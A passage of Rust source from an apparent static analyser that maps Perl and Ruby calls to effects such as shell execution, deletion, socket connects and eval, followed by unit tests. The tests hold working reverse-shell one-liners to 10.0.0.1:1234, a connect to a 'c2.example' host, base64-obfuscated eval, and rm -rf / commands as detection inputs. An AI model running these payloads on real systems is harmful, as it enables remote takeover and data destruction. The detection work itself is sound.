            | "FileUtils.remove_entry_secure" => {
                for p in spread(args) {
                    if !matches!(p, Value::Obj(_)) {
                        f.as_command(&["rm", "-r", "-f"], vec![p]);
                    }
                }
                Value::unknown()
            }
            "rename" | "File.rename" | "FileUtils.mv" | "FileUtils.move" => {
                f.as_command(&["mv"], vec![a(0), a(1)]);
                Value::unknown()
            }
            "FileUtils.cp" | "FileUtils.copy" | "File::Copy::copy" | "copy" => {
                f.as_command(&["cp"], vec![a(0), a(1)]);
                Value::unknown()
            }
            "FileUtils.cp_r" => {
                f.as_command(&["cp", "-r"], vec![a(0), a(1)]);
                Value::unknown()
            }
            "chmod" | "File.chmod" | "FileUtils.chmod" | "FileUtils.chmod_R" => {
                let mode = match a(0) {
                    Value::Num(n) => Value::str(format!("{n:o}")),
                    other => other,
                };
                let mut argv = vec![Value::str("chmod")];
                if bare.ends_with("_R") {
                    argv.push(Value::str("-R"));
                }
                argv.push(mode);
                argv.push(Value::str("--"));
                argv.extend(spread(args.into_iter().skip(1).collect()));
                f.exec(argv);
                Value::unknown()
            }
            "chown" | "File.chown" | "FileUtils.chown" | "FileUtils.chown_R" => {
                let owner = concat(&[a(0), Value::str(":"), a(1)]);
                let mut argv = vec![Value::str("chown")];
                if bare.ends_with("_R") {
                    argv.push(Value::str("-R"));
                }
                argv.push(owner);
                argv.push(Value::str("--"));
                argv.extend(spread(args.into_iter().skip(2).collect()));
                f.exec(argv);
                Value::unknown()
            }
            "symlink" | "File.symlink" | "FileUtils.ln_s" => {
                f.as_command(&["ln", "-s"], vec![a(0), a(1)]);
                Value::unknown()
            }
            "truncate" | "File.truncate" => {
                f.exec(vec![
                    Value::str("truncate"),
                    Value::str("-s"),
                    a(1),
                    Value::str("--"),
                    a(0),
                ]);
                Value::unknown()
            }
            "File.write" | "IO.write" | "File.binwrite" | "IO.binwrite" => {
                f.write(a(0));
                Value::unknown()
            }
            "File.read" | "IO.read" | "File.readlines" | "IO.readlines" | "File.binread" => {
                f.read(a(0));
                Value::unknown()
            }
            "glob" | "Dir.glob" | "inet_aton" | "URI" | "URI.parse" | "Pathname.new"
            | "File.expand_path" => a(0),
            "sprintf" | "format" => {
                let (fmt, known) = a(0).text().unwrap_or_else(|| (UNKNOWN.to_string(), false));
                format_percent(&fmt, known, args.get(1..).unwrap_or_default())
            }
            "sockaddr_in"
            | "pack_sockaddr_in"
            | "Socket.sockaddr_in"
            | "Socket.pack_sockaddr_in" => {
                // (port, host) in both; an object, so Perl's list flattening keeps it whole.
                Value::Obj(vec![("host".into(), a(1)), ("port".into(), a(0))])
            }
            "socket" | "Socket.new" | "UDPSocket.new" => {
                f.socket = true;
                f.process_module = true;
                Value::Inst("socket", Box::new(Value::unknown()))
            }
            "connect" => {
                let addr = a(1);
                match (addr.field("host"), addr.field("port")) {
                    (Some(h), Some(p)) => f.connect(h.clone(), p.clone()),
                    _ => f.connect(Value::unknown(), Value::unknown()),
                }
                Value::unknown()
            }
            "IO::Socket::INET->new"
            | "IO::Socket::IP->new"
            | "IO::Socket::SSL->new"
            | "IO::Socket->new" => {
                let field = |keys: &[&str]| {
                    args.windows(2).find_map(|w| {
                        let k = w[0].known()?;
                        keys.iter()
                            .any(|x| k.eq_ignore_ascii_case(x))
                            .then(|| w[1].clone())
                    })
                };
                if field(&["Listen", "LocalPort"]).is_some()
                    && field(&["PeerAddr", "PeerHost"]).is_none()
                {
                    f.listen();
                } else {
                    let addr = match field(&["PeerAddr", "PeerHost"]) {
                        Some(v) => v,
                        None if args.len() == 1 => a(0),
                        None => Value::unknown(),
                    };
                    let port = field(&["PeerPort"]);
                    let (host, port) = match (addr.known(), port) {
                        (Some(h), None) if h.contains(':') => {
                            let (h, p) = h.rsplit_once(':').unwrap_or((h.as_str(), ""));
                            (Value::str(h), Value::str(p))
                        }
                        (_, Some(p)) => (addr, p),
                        (_, None) => (addr, Value::unknown()),
                    };
                    f.connect(host, port);
                }
                Value::Inst("socket", Box::new(Value::unknown()))
            }
            "TCPSocket.new" | "TCPSocket.open" | "Socket.tcp" | "TCPSocket" => {
                f.connect(a(0), a(1));
                Value::Inst("socket", Box::new(Value::unknown()))
            }
            "TCPServer.new" | "TCPServer.open" | "Socket.tcp_server_loop" | "UNIXServer.new" => {
                f.listen();
                Value::unknown()
            }
            "LWP::Simple::get"
            | "get"
            | "getstore"
            | "getprint"
            | "mirror"
            | "Net::HTTP.get"
            | "Net::HTTP.get_response"
            | "Net::HTTP.post_form"
            | "Net::HTTP.start"
            | "URI.open"
            | "HTTP::Tiny->new->get" => {
                if !given && args.is_empty() {
                    return None;
                }
                let url = match a(0) {
                    Value::Str { .. } => a(0),
                    _ => Value::unknown(),
                };
                if bare == "Net::HTTP.start" || bare == "Net::HTTP.get" && args.len() > 1 {
                    f.connect(a(0), Value::unknown());
                } else {
                    f.request(url);
                }
                Value::Unknown(Origin::Fetched)
            }
            "eval" | "instance_eval" | "class_eval" | "module_eval" | "Kernel.eval" => {
                if !given {
                    return None;
                }
                let lang = self.lang();
                let depth = self.depth;
                self.f.eval(&a(0), lang, depth);
                Value::unknown()
            }
            "decode_base64"
            | "MIME::Base64::decode_base64"
            | "Base64.decode64"
            | "Base64.strict_decode64"
            | "Base64.urlsafe_decode64" => decode(&a(0), Encoding::Base64),
            "pack" if a(0).known().is_some_and(|s| s.starts_with('H')) => {
                decode(&a(1), Encoding::Hex)
            }
            "pack" | "Zlib::Inflate.inflate" | "Zlib.inflate" | "Marshal.load" => {
                Value::Unknown(Origin::Decoded)
            }
            "reverse" if args.len() == 1 => match a(0) {
                Value::Str { text, known } => Value::Str {
                    text: text.chars().rev().collect(),
                    known,
                },
                other => other,
            },
            "fork" => {
                f.process_module = true;
                f.bind = true;
                Value::unknown()
            }
            "send" | "public_send" | "__send__" => {
                // `Kernel.send(:system, "id")`: the first argument names the method.
                let Some(m) = a(0).known() else {
                    f.eval_unknown = true;
                    return Some(Value::unknown());
                };
                let rest = args.get(1..).unwrap_or_default().to_vec();
                return self.call(&m, rest, true);
            }
            _ => return None,
        };
        Some(v)
    }
}

/// Lists among arguments spread into separate values.
fn spread(args: Vec<Value>) -> Vec<Value> {
    let mut out = Vec::new();
    for v in args {
        match v {
            Value::List(items) => out.extend(items),
            other => out.push(other),
        }
    }
    out
}

/// Perl `open(FH, MODE, …)` and two-argument `open(FH, "|cmd")`.
fn perl_open(f: &mut Facts, args: &[Value]) {
    let at = |i: usize| args.get(i).cloned().unwrap_or_else(Value::unknown);
    if args.len() >= 3 {
        let mode = at(1).known().unwrap_or_default();
        let mode = mode.trim();
        match mode {
            "-|" | "|-" if args.len() == 3 => f.shell(at(2)),
            "-|" | "|-" => f.exec(args[2..].to_vec()),
            m if m.contains('&') => f.bind = true,
            m if m.contains('>') || m.starts_with("+<") => f.write(at(2)),
            _ => f.read(at(2)),
        }
        return;
    }
    let spec = at(1);
    let Some(s) = spec.text().map(|(t, _)| t) else {
        f.read(spec);
        return;
    };
    let t = s.trim();
    if t.contains(">&") || t.contains("<&") {
        // `open(STDIN, ">&S")`: a descriptor duplicated onto a socket or file.
        f.bind = true;
    } else if let Some(cmd) = t.strip_prefix('|') {
        f.shell(Value::str(cmd.trim()));
    } else if let Some(cmd) = t.strip_suffix('|') {
        f.shell(Value::str(cmd.trim()));
    } else if let Some(p) = t
        .strip_prefix(">>")
        .or_else(|| t.strip_prefix("+<"))
        .or_else(|| t.strip_prefix("+>"))
        .or_else(|| t.strip_prefix('>'))
    {
        f.write(Value::str(p.trim()));
    } else {
        f.read(Value::str(t.trim_start_matches('<').trim()));
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Effect, analyse};
    use super::*;

    fn pl(code: &str) -> Facts {
        analyse(code, Lang::Perl)
    }

    fn rb(code: &str) -> Facts {
        analyse(code, Lang::Ruby)
    }

    fn s(x: &str) -> Value {
        Value::str(x)
    }

    fn argv(xs: &[&str]) -> Effect {
        Effect::Exec(xs.iter().map(|x| s(x)).collect())
    }

    #[test]
    fn perl_processes_and_deletion() {
        assert_eq!(
            pl(r#"system("rm","-rf","/")"#).effects,
            [argv(&["rm", "-rf", "/"])]
        );
        assert_eq!(
            pl("system 'rm -rf /srv'").effects,
            [Effect::Shell(s("rm -rf /srv"))]
        );
        assert_eq!(pl("print `id`").effects, [Effect::Shell(s("id"))]);
        assert_eq!(
            pl("my $d = '/home'; system(\"rm -rf $d\")").effects,
            [Effect::Shell(s("rm -rf /home"))]
        );
        assert_eq!(
            pl(r#"unlink glob("~/*")"#).effects,
            [argv(&["rm", "-f", "--", "~/*"])]
        );
        assert_eq!(
            pl("use File::Path qw(remove_tree); remove_tree('/var/lib/app')").effects,
            [argv(&["rm", "-r", "-f", "--", "/var/lib/app"])]
        );
        assert_eq!(
            pl("open(my $fh, '>', '/etc/cron.d/x'); print $fh 'x'").effects,
            [Effect::Write(s("/etc/cron.d/x"))]
        );
        assert_eq!(pl(r#"open(P, "|sh")"#).effects, [Effect::Shell(s("sh"))]);
    }

    #[test]
    fn perl_sockets() {
        let f = pl(
            r#"use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#,
        );
        assert!(
            f.effects
                .contains(&Effect::Connect(s("10.0.0.1"), Value::Num(1234))),
            "{f:?}"
        );
        assert!(f.reverse_shell());
        let f = pl(r#"use IO::Socket; $c = IO::Socket::INET->new(PeerAddr => "c2.example:443")"#);
        assert_eq!(f.effects, [Effect::Connect(s("c2.example"), s("443"))]);
    }

    #[test]
    fn perl_eval() {
        // decode_base64 of `system("id")`.
        let f = pl(r#"use MIME::Base64; eval(decode_base64("c3lzdGVtKCJpZCIp"))"#);
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = pl("eval $ARGV[0]");
        assert!(f.eval_unknown);
        assert!(!pl("eval { die 1 }; print $@").eval_unknown);
    }

    #[test]
    fn ruby_calls() {
        assert_eq!(
            rb(r#"system("rm","-rf","/")"#).effects,
            [argv(&["rm", "-rf", "/"])]
        );
        assert_eq!(
            rb("require 'fileutils'; FileUtils.rm_rf('build')").effects,
            [argv(&["rm", "-r", "-f", "--", "build"])]
        );
        assert_eq!(rb("%x(rm -rf /)").effects, [Effect::Shell(s("rm -rf /"))]);
        assert_eq!(
            rb("Kernel.send(:system, 'id')").effects,
            [Effect::Shell(s("id"))]
        );
        assert_eq!(
            rb("File.write('/etc/hosts', 'x')").effects,
            [Effect::Write(s("/etc/hosts"))]
        );
        let f = rb(
            r#"require 'socket';f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#,
        );
        assert!(
            f.effects
                .contains(&Effect::Connect(s("10.0.0.1"), Value::Num(1234))),
            "{f:?}"
        );
        assert!(f.reverse_shell());
        let f = rb(r#"require "base64"; eval(Base64.decode64("c3lzdGVtKCdpZCcp"))"#);
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
    }

    #[test]
    fn lexer_errors_fail_closed() {
        assert!(!pl("system('rm -rf /)").errors.is_empty());
        assert!(!rb("puts \"unterminated").errors.is_empty());
    }

    #[test]
    fn benign_code_has_no_effects() {
        for code in [
            "print 1+1",
            "print join(',', map { $_ * 2 } (1..3))",
            "while (<>) { s/foo/bar/g; print }",
            "print scalar(localtime)",
        ] {
            let f = pl(code);
            assert!(f.effects.is_empty() && f.errors.is_empty(), "{code}: {f:?}");
        }
        for code in [
            "puts 1+1",
            "puts [1,2,3].map { |x| x * 2 }.join(',')",
            "require 'json'; puts JSON.parse(STDIN.read)['x']",
        ] {
            let f = rb(code);
            assert!(f.effects.is_empty() && f.errors.is_empty(), "{code}: {f:?}");
        }
    }
}
